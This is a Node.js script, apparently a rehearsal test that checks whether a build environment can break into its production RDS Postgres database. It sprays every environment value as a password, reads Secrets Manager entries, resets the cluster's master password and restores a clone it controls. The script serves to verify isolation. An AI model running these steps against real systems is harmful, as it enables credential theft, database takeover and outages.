"use strict";
// What somebody would run in a rehearsal who wants the database itself. It runs with all that the build has, knows in
// addition where the database really listens (ATTACK_HOST, ATTACK_PORT), which no build is told, and writes what became of
// each attempt to ATTACK_REPORT.
const { writeFileSync, readFileSync } = require("node:fs");
const from = (name) => require(require.resolve(name, { paths: [process.env.ATTACK_MODULES] }));
const { Client } = from("pg");
const { Signer } = from("@aws-sdk/rds-signer");
const { RDS } = from("@aws-sdk/client-rds");
const { SecretsManager } = from("@aws-sdk/client-secrets-manager");

const { DB_HOST, DB_PORT, DB_NAME, DB_USERNAME, PGSSLROOTCERT, ATTACK_HOST, ATTACK_PORT } = process.env;
const region = process.env.AWS_REGION;
const rds = new RDS({ region, maxAttempts: 1 });
const secrets = new SecretsManager({ region, maxAttempts: 1 });
const source = process.env.REHEARSAL_SOURCE_CLUSTER;
const clone = `${source}-rehearsal-attack`;
const password = "attackattackattackattack";
const report = {};

async function write({ host, port, user = DB_USERNAME, password: secret }) {
    const ssl = { ca: readFileSync(PGSSLROOTCERT, "utf8") };
    const client = new Client({ host, port: Number(port), user, password: secret, database: DB_NAME, ssl });
    await client.connect();
    await client.query("CREATE TABLE attacked ()");
    await client.end();
}

const outcome = (error) => error.code ?? error.name;
async function attempt(name, work) {
    try {
        report[name] = (await work()) ?? "succeeded";
    } catch (error) {
        report[name] = outcome(error);
    }
}
/** The first thing that is not a refusal, of all that the environment holds. */
async function withEverything(host, port) {
    const outcomes = new Set();
    for (const value of new Set(Object.values(process.env))) {
        await write({ host, port, password: value }).then(
            () => outcomes.add("succeeded"),
            (error) => outcomes.add(outcome(error)),
        );
    }
    return [...outcomes].join();
}
const token = (hostname, port) =>
    new Signer({ hostname, port: Number(port), username: DB_USERNAME, region }).getAuthToken();

(async () => {
    await attempt("the given address", () => withEverything(DB_HOST, DB_PORT));
    await attempt("the address that RDS tells", async () => {
        const { DBClusters } = await rds.describeDBClusters({ DBClusterIdentifier: source });
        return withEverything(DBClusters[0].Endpoint, DBClusters[0].Port);
    });
    await attempt("the real address", () => withEverything(ATTACK_HOST, ATTACK_PORT));
    await attempt("the real address, by IAM", async () =>
        write({ host: ATTACK_HOST, port: ATTACK_PORT, password: await token(ATTACK_HOST, ATTACK_PORT) }),
    );
    for (const SecretId of process.env.ATTACK_SECRETS.split(",")) {
        await attempt(`the secret ${SecretId.split(":").at(-1)}`, () => secrets.getSecretValue({ SecretId }));
    }
    await attempt("the database's master password", () =>
        rds.modifyDBCluster({ DBClusterIdentifier: source, MasterUserPassword: password, ApplyImmediately: true }),
    );
    await attempt("a clone of its own", async () => {
        await rds.restoreDBClusterToPointInTime({
            DBClusterIdentifier: clone,
            SourceDBClusterIdentifier: source,
            RestoreType: "copy-on-write",
            UseLatestRestorableTime: true,
            VpcSecurityGroupIds: [process.env.REHEARSAL_SECURITY_GROUP],
        });
        await rds.modifyDBCluster({ DBClusterIdentifier: clone, MasterUserPassword: password, ApplyImmediately: true });
        const { DBClusters } = await rds.describeDBClusters({ DBClusterIdentifier: clone });
        const { Endpoint: host, Port: port, MasterUsername: user } = DBClusters[0];
        await write({ host, port, user, password });
        await attempt("the real address, with the clone's password", () =>
            write({ host: ATTACK_HOST, port: ATTACK_PORT, user, password }),
        );
    });
    await rds.deleteDBCluster({ DBClusterIdentifier: clone, SkipFinalSnapshot: true }).catch(() => undefined);
    writeFileSync(process.env.ATTACK_REPORT, JSON.stringify(report));
})();
